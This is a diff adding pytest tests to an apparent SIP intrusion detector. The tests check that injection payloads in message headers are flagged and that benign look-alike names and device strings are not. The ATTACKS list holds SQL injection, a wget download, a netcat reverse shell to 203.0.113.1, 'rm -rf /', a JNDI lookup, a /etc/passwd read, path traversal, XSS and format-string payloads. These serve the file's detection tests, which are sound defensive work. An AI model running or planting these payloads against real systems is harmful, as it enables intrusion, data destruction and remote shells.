@@ -189,3 +189,82 @@ def test_over_a_connection_that_stands_it_is_proven() -> None:
     world.send(ATTACKER, 5060, invite(agent="%s%s%s%n"), TCP, established=True)
     (verdict,) = world.verdicts
     assert verdict.grade is Grade.PROVEN and verdict.action is Action.DROP
+
+
+# --- corpora ---------------------------------------------------------------------------------
+
+ATTACKS = (
+    "admin'--", "1001' or '1'='1", "x' OR 1=1#", 'a" or "a"="a', "100') union select 1,2,3 -- ",
+    "1 UNION ALL SELECT null,null", "100'; drop table subscriber; --",
+    "a';insert into users values(1)", "1' and sleep(5)#", "1001%27%20or%20%271%27=%271",
+    "a'; WAITFOR DELAY '0:0:5'--", "x'/**/or/**/1",
+    "' union select * from information_schema.tables", "1;exec xp_cmdshell 'dir'",
+    "$(wget http://203.0.113.1/x)", "`id`", "a;wget http://x/y", "a|nc -e /bin/sh 203.0.113.1 99",
+    "x && rm -rf /", "${jndi:ldap://203.0.113.1/a}", "a;cat /etc/passwd",
+    "x;/bin/busybox telnetd", "%24%28curl%20x%29", "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<?php system(1) ?>",
+    "../../../../etc/passwd", "..%2f..%2fetc", "..\\..\\windows", "%s%s%s%s%s", "%n%n%n",
+    "AAAA%08x%08x%08x", "%1$n", "a\x00b", "x\x1b[2J", "1001%00", "a%0d%0aVia: x",
+)  # fmt: skip
+
+HONEST = (
+    '"O\'Brien, Pat" <sip:1001@example.net>', '"Jörg Müller" <sip:j.mueller@example.net>',
+    '"D`Angelo & O`Brien" <sip:5@example.net>', '"Smith \'n\' Sons" <sip:5@example.net>',
+    '"Dep. (North) and South" <sip:100@example.net>', '"Room (A) and 5" <sip:9@example.net>',
+    '"Suite \'A\' and 5" <sip:9@example.net>', '"Union Select Committee" <sip:9@example.net>',
+    '"Select Comfort from Us" <sip:9@example.net>', '"Drop Table Furniture" <sip:9@example.net>',
+    '"Delete me from list" <sip:9@example.net>', '"100%natural" <sip:9@example.net>',
+    '"A/B -- Test; R&D" <sip:9@example.net>', '"$(50) Store" <sip:9@example.net>',
+    '"C:\\\\Home" <sip:9@example.net>', '"Tom \\"The Cat\\" Or 1" <sip:9@example.net>',
+    '"or" and <sip:9@example.net>', "<sip:*98@example.net>", "<sip:%2398@example.net>",
+    "<sip:#21#@example.net>", "<sip:**610@fritz.box>", "<sip:%20x%20y@example.net>",
+    "<sip:+4930123;phone-context=example.net;ext=5@example.net;user=phone>",
+    "<sip:+1-212-555-0101;npdi;rn=+12125550000@example.net;user=phone>",
+    '"Anonymous" <sip:anonymous@anonymous.invalid>', "<tel:+49-30-123;phone-context=+49>",
+    "<sip:1001@192.168.1.2:5060;transport=TLS;ob>;+sip.instance="
+    '"<urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6>";reg-id=1;methods="INVITE, ACK"',
+    '<sip:user@example.com;gr=urn:uuid:f81d4fae-7dec>;audio;video;text;actor="principal"',
+    '"=?utf-8?B?SsO2cmc=?=" <sip:9@example.net>',
+    "sip:9@example.net;maddr=10.0.0.1?Subject=a&b=c", "Linksys/SPA941-5.1.8", "Cisco-CP7960G/8.0",
+    "snom370/8.4.35 (MAC=000413XXXXXX)", "AVM FRITZ!Box 7590 154.07.57 TAL (Sep 12 2023)",
+    "Yealink SIP-T46S 66.85.0.5", "Z 3.15.40006 rv", "Twinkle/1.4.2; sh",
+    "Panasonic_KX-UT123NE/01.302 (0080f0)", "MicroSIP/3.21.3 & more",
+    "X-Lite release 4.9.8 stamp 84253 <eval>", "Telefon \x1b$B$\x1b(B",
+    "Bria 5 release 5.8.3 (OK; or 6)", "Phone's; echo cancel", "sipgate 100%", "a--b",
+    "3CXPhone #1",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+@pytest.mark.parametrize("place", ["From", "Contact", "User-Agent", "Authorization"])
+def test_attacks_in_every_field(text: str, place: str) -> None:
+    value = text if place == "User-Agent" else f'"{text}" <sip:100@example.net>'
+    if place == "Authorization":
+        quoted = text.replace('"', '\\"')
+        value = f'Digest username="{quoted}", nonce="n", response="0"'
+    raw = (
+        "OPTIONS sip:100@example.net SIP/2.0\r\nCall-ID: c\r\nCSeq: 1 OPTIONS\r\n"
+        f"Contact: <sip:a@192.0.2.1>\r\n{place}: {value}\r\n\r\n"
+    )
+    assert told(raw, "injection")
+
+
+@pytest.mark.parametrize("text", HONEST)
+def test_what_people_have(text: str) -> None:
+    world = World()
+    for _ in range(2):
+        raw = invite(sender=text, contact=text, agent=text, call=f"{world.now}")
+        assert not told(raw, "injection", world)
+
+
+def test_a_string_with_its_end() -> None:
+    assert not told(invite(agent="Grandstream HT801\0"), "injection")
+
+
+def test_private_contacts_that_are_like_one_of_ours() -> None:
+    ours = [parse_prefix("198.51.100.0/24"), parse_prefix("10.1.0.0/16")]
+    world = World(Engine(DetectSettings(), Sides(ours)))
+    for number in range(5):
+        contact = f"<sip:{number}@10.1.0.{number}:5060>"
+        raw = invite(contact=contact, method="REGISTER", call=f"c{number}")
+        assert not told(raw, "foreign-domain", world)
